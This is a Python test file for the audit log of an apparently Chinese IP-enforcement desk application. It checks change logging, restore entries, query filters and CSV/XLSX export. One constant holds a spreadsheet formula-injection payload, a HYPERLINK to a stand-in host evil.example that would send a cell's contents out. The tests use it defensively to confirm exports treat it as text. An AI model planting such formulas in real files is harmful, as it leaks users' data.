"""The audit log: who, when, old → new for records, users, settings, approvals, imports, restores;
filtered queries; CSV/XLSX export where text never becomes a formula."""
import csv
import json

import pytest
from openpyxl import load_workbook

from ipdesk.db import audit_query
from ipdesk.db.restore import restore
from ipdesk.db import backup as B
from ipdesk.desk import Desk
from ipdesk.exchange.load_json import load_records

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_every_kind_of_change_is_logged_with_old_and_new(desk, tmp_path):
    rid = desk.records.save("work_items", {"date": "2026-03-05", "kind": "宣传活动", "title": "旧标题", "count_a": 1}).record_id
    desk.records.save("work_items", {"title": "新标题"}, rid)
    desk.office.add_user("张审核", "审核人", "pw-1", own_password="pw-admin")
    desk.set_setting("backup_interval_minutes", 10)
    load_records(desk, {"work_items": [{"date": "2026-04-01", "kind": "宣传活动", "title": "导入的", "count_a": 2}]})
    desk.records.delete("work_items", rid)
    entries = desk.office.audit_entries()
    by = {(e.action, e.table) for e in entries}
    assert {("insert", "work_items"), ("update", "work_items"), ("delete", "work_items"), ("insert", "users"),
            ("update", "settings")} <= by
    update = next(e for e in entries if e.action == "update" and e.table == "work_items")
    assert update.old["title"] == "旧标题" and update.new["title"] == "新标题" and update.user == "管理员"
    setting = next(e for e in entries if e.table == "settings")
    assert setting.old == {"value": None} and setting.new == {"value": 10}
    assert any("导入" in (e.label or "") for e in entries)
    assert [i.reason for i in B.list_backups(desk.path.parent / "backups")] == ["import"]  # backed up first
    user = next(e for e in entries if e.table == "users")
    assert "pw-1" not in json.dumps(user.new, ensure_ascii=False)


def test_restore_is_logged_in_the_restored_file(make_desk):
    desk = make_desk()
    path = B.backup_now(desk)
    db = desk.path
    desk.close()
    restore(db, path, user="管理员")
    again = Desk.open(db)
    again.user = "管理员"
    entry = again.office.audit_entries(limit=1)[0]
    assert entry.action == "restore" and entry.new["from"] == str(path) and entry.row()[3] == "恢复备份"
    again.close()


def test_filters_by_date_user_table_and_text(desk):
    desk.office.add_user("李四", "填报人", "pw-李四", own_password="pw-admin")
    desk.records.save("work_items", {"date": "2026-03-05", "kind": "宣传活动", "title": "管理员写的", "count_a": 1})
    desk.user = "李四"
    desk.records.save("work_items", {"date": "2026-03-06", "kind": "宣传活动", "title": "李四写的", "count_a": 1})
    desk.records.save("inspections", {"date": "2026-03-07", "kind": "日常巡查", "place_kind": "商场超市", "subject_count": 1,
                              "officers": 2})
    desk.db.execute("UPDATE audit_log SET at = '2025-01-02T08:00:00' WHERE id = 1")
    desk.user = "管理员"
    assert {e.user for e in desk.office.audit_entries(user="李四")} == {"李四"}
    assert {e.table for e in desk.office.audit_entries(table="inspections")} == {"inspections"}
    hits = desk.office.audit_entries(text="李四写的")
    assert len(hits) == 1 and hits[0].new["title"] == "李四写的"
    assert [e.id for e in desk.office.audit_entries(start="2025-01-01", end="2025-01-02")] == [1]
    assert 1 not in [e.id for e in desk.office.audit_entries(start="2025-01-03")]
    users, tables = desk.office.audit_filter_choices()
    assert {"管理员", "李四"} <= set(users) and "inspections" in tables
    assert len(desk.office.audit_entries(limit=2)) == 2


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_keeps_formulas_as_text(desk, tmp_path, suffix):
    desk.records.save("work_items", {"date": "2026-03-05", "kind": "宣传活动", "title": EVIL, "count_a": 1})
    desk.records.save("cases", {"name": EVIL, "category": "商标侵权", "lead_date": "2026-03-02"})
    out = audit_query.export(desk.office.audit_entries(), tmp_path / "日志 导出" / f"操作日志{suffix}")
    if suffix == ".xlsx":
        ws = load_workbook(out).active
        cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value and "HYPERLINK" in str(c.value)]
        assert cells and all(c.data_type == "s" for c in cells)
        assert ws.cell(1, 1).value == "时间"
    else:
        rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
        assert rows[0][0] == "时间"
        evil = [v for r in rows[1:] for v in r if "HYPERLINK" in v]
        assert evil and all(not v.startswith(("=", "+", "-", "@")) for v in evil)
        assert audit_query.csv_safe("=1+1") == "'=1+1" and audit_query.csv_safe("-2") == "'-2"
